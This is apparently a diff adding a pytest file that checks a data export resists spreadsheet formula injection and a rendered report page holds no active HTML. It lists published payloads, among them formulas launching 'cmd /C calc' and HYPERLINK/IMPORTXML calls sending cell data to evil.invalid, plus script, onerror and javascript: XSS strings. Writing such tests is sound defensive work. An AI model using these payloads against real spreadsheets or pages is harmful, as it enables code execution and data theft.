@@ -1,0 +1,192 @@
+"""Trials 13 and 14: text from a report never acts in a spreadsheet or a page.
+
+13: formula injection to CSV and XLSX gives no formula cell, and telephone numbers survive.
+14: HTML in texts, names and model terms gives no active element in the rendered page.
+"""
+
+from __future__ import annotations
+
+import csv
+import html.parser
+import io
+import zipfile
+from datetime import UTC, date, datetime
+from pathlib import Path
+
+import openpyxl
+import pytest
+from pyspark.sql import SparkSession
+
+from jobs import audit, export, notebook, settings
+from schemas import gold
+from tests.support import reading_room, tables
+
+NIGHT = date(2026, 3, 15)
+
+# Formula payloads as published (OWASP, PayloadsAllTheThings), with blanks, invisible characters and separators before.
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.invalid?x="&A1,"click")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\x00=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "harmless;=1+1",
+    "two lines\n=1+1",
+    '","=1+1',
+    '\'\n=IMPORTXML("http://evil.invalid","//a")',
+    "{=1+1}",
+    '=DDE("cmd";"/C calc";"x")',
+)
+PHONES = ("+447700900123", "+44 7700 900123", "+33123456789")
+
+
+def _cells(data: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
+
+
+def _starts_formula(cell: str, cuts: str) -> bool:
+    for cut in cuts:
+        cell = cell.replace(cut, "\n")
+    for part in cell.split("\n"):
+        visible = part.lstrip(" \u00a0\u200b\ufeff\x00\ufffd\t\r")
+        if visible[:1] in tuple("=+-@＝＋－＠") and visible.replace(" ", "") not in [
+            p.replace(" ", "") for p in PHONES
+        ]:
+            return True
+    return False
+
+
+def test_trial_13_no_formula_leaves_by_csv_or_xlsx(spark: SparkSession, tmp_path: Path) -> None:
+    rows = []
+    for n, text in enumerate((*FORMULAS, *PHONES)):
+        personal = {"urn": text, "local_tag": text, "reviewer": text, "reason": text, "report_id": text}
+        decided = {"decision_id": f"{n:036d}", "decided_at": datetime(2026, 3, 14, 9, n, tzinfo=UTC), "tag": "CSE_LONE"}
+        rows.append({"night": NIGHT, "force": "36", **decided, **personal})
+    frame = tables.frame(spark, gold.WRITEBACK, *rows)
+    csv_file, xlsx_file = export.write(frame, tmp_path, NIGHT, audit.Audit(tmp_path / "log"))
+
+    cells = _cells(csv_file.read_bytes())
+    formulas = [cell for cell in cells if _starts_formula(cell, ";\t\r") or cell[:1] in ("\t", "\r", "\n")]
+    assert formulas == []
+    assert [cell for cell in cells if cell in PHONES].count("+447700900123") == 5
+    assert set(PHONES) <= set(cells)
+
+    book = openpyxl.load_workbook(xlsx_file)
+    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    # Excel reads the type of a cell from the file; openpyxl calls a string that begins with `=` a formula, so look there.
+    with zipfile.ZipFile(xlsx_file) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+        assert not [name for name in archive.namelist() if "external" in name.lower() or "vba" in name.lower()]
+    assert "<f>" not in xml
+    assert "<f " not in xml
+    assert "<hyperlink" not in xml
+    assert xml.count("<c ") == xml.count('t="s"') + xml.count("/></c>") + len(export.COLUMNS) - 1  # empty banner cells
+    assert all(cell.quotePrefix for cell in found)  # stays text when somebody edits it
+    values = [cell.value for cell in found]
+    assert values.count("+447700900123") == 5
+    assert set(PHONES) <= set(values)
+    print(f"trial 13: {len(FORMULAS)} payloads in {len(cells)} CSV and {len(found)} XLSX cells, 0 formulas")
+
+
+def test_the_csv_banner_note_and_headings_are_no_formulas_either() -> None:
+    assert not [c for c in _cells(export.csv_bytes(export.COLUMNS, [], "OFFICIAL")) if _starts_formula(c, ";")]
+
+
+# Markup as it would be tried in a report's text, a name, a conditions field or a term of a model.
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "' onmouseover='alert(1)",
+    "</textarea></style></div></pre><iframe src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>here</a>",
+    "<form action=//evil.invalid><input type=submit>",
+    "<meta http-equiv=refresh content=0;url=//evil.invalid>",
+    "<link rel=stylesheet href=//evil.invalid>",
+    "<base href=//evil.invalid>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    "{{ 7 * 7 }}{% raw %}",
+    "$\\href{javascript:alert(1)}{x}$",
+    "<style>@import '//evil.invalid'</style>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\u202e<b>",
+)
+# What a page of ours is made of. Nothing here can run, load, send or lead away.
+QUIET = {
+    "html", "head", "meta", "title", "style", "body", "div", "span", "p", "h1", "h2", "h3", "b", "strong", "i", "br", "mark",
+    "table", "thead", "tbody", "tr", "th", "td", "dl", "dt", "dd", "ol", "ul", "li", "pre", "code", "details", "summary",
+    "svg", "line", "rect", "text", "em",
+}  # fmt: skip
+ATTRIBUTES = {
+    "class", "style", "title", "colspan", "role", "aria-label", "lang", "charset", "http-equiv", "content", "name", "id",
+    "viewbox", "width", "height", "x", "y", "x1", "x2", "y1", "y2", "text-anchor", "stroke", "fill", "opacity",
+}  # fmt: skip
+
+
+class _Page(html.parser.HTMLParser):
+    def __init__(self, page: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.active: list[str] = []
+        self.text = ""
+        self.titles = ""
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in QUIET:
+            self.active.append(tag)
+        self.active += [f"{tag} {name}={value}" for name, value in attrs if name not in ATTRIBUTES]
+        self.active += [f"{tag} {n}" for n, v in attrs if n == "http-equiv" and v != "Content-Security-Policy"]
+        self.active += [
+            f"{tag} style" for n, v in attrs if n == "style" and ("url" in str(v) or "expression" in str(v))
+        ]
+        self.titles += " ".join(str(value) for name, value in attrs if name == "title")
+
+    def handle_comment(self, data: str) -> None:
+        self.active.append(f"comment {data}")
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+@pytest.mark.slow
+def test_trial_14_no_active_element_in_the_rendered_page(spark: SparkSession, tmp_path: Path) -> None:
+    """The real notebook in its own kernel, over tables whose every free text is markup."""
+    everything = " ".join(PAYLOADS)
+    # Terms of the model that are markup themselves, found in the text where they stand.
+    terms = {payload: 0.1 * (n + 1) * (-1) ** n for n, payload in enumerate(PAYLOADS)}
+    hostile = {"title": f"title {everything}", "texts": (everything, everything), "terms": terms}
+    hostile |= {"originator": everything, "handling_conditions": everything, "provenance": (everything, "1", "B")}
+    person = {"forename": everything, "surname": everything}
+    reading_room.write(spark, tmp_path, [hostile] * len(reading_room.REPORTS), **person)
+    page_file = notebook.render(
+        settings.ROOT / "notebooks" / "10_review_reclassify.py",
+        tmp_path / "page.html",
+        {"reviewer": everything, "night": reading_room.NIGHT.isoformat()},
+        home=tmp_path,
+    )
+    source = page_file.read_text(encoding="utf-8")
+    page = _Page(source)
+    assert page.active == []
+    assert source.count("Content-Security-Policy") == 1
+    # The text is all there, to be read: the page hides nothing that a report says.
+    for payload in PAYLOADS:
+        shown = payload.replace("\u202e", "\ufffd")
+        assert page.text.replace("\n", "").count(shown) >= len(reading_room.REPORTS), payload
+        assert shown in page.titles
+    assert audit.Audit(tmp_path / "log").verify() is None
+    print(f"trial 14: {len(PAYLOADS)} payloads, {len(source):,} characters of page, 0 active elements")
